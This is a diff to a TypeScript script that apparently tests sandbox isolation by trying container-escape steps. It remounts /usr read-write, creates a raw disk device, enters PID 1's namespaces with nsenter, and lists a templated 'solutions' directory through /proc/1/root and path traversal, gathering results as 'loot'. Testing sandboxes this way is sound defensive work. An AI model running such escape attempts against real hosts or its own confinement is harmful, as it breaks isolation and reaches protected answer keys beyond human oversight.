@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { chmodSync, closeSync, existsSync, openSync, readdirSync, statSync, utimesSync } from 'node:fs';
+import { chmodSync, closeSync, openSync, readdirSync, statSync, utimesSync } from 'node:fs';
 import { createServer } from 'node:http';
 
 const loot: string[] = [];
@@ -40,7 +40,7 @@ attempt('another root', () => run('/bin/sh', '-c', outside));
 attempt('a mount', () => run('mount', '-o', 'remount,bind,rw', '/usr'));
 attempt('a device', () => run('mknod', '/tmp/disk', 'b', '8', '0'));
 attempt('the namespaces of process 1', () => run('nsenter', '--target', '1', '--mount', '--pid', 'ls', '{{PROJECT}}/solutions'));
-for (const path of ['/proc/1/root', '/proc/1/cwd', '/proc/self/cwd/../../../../../..']) if (existsSync(`${path}{{PROJECT}}/solutions`)) loot.push(`LOOT: ${path}`);
+for (const path of ['/proc/1/root', '/proc/1/cwd', '/proc/self/cwd/../../../../../..']) attempt(path, () => readdirSync(`${path}{{PROJECT}}/solutions`).join());
 
 createServer((_req, res) => {
   res.setHeader('Content-Type', 'application/json');
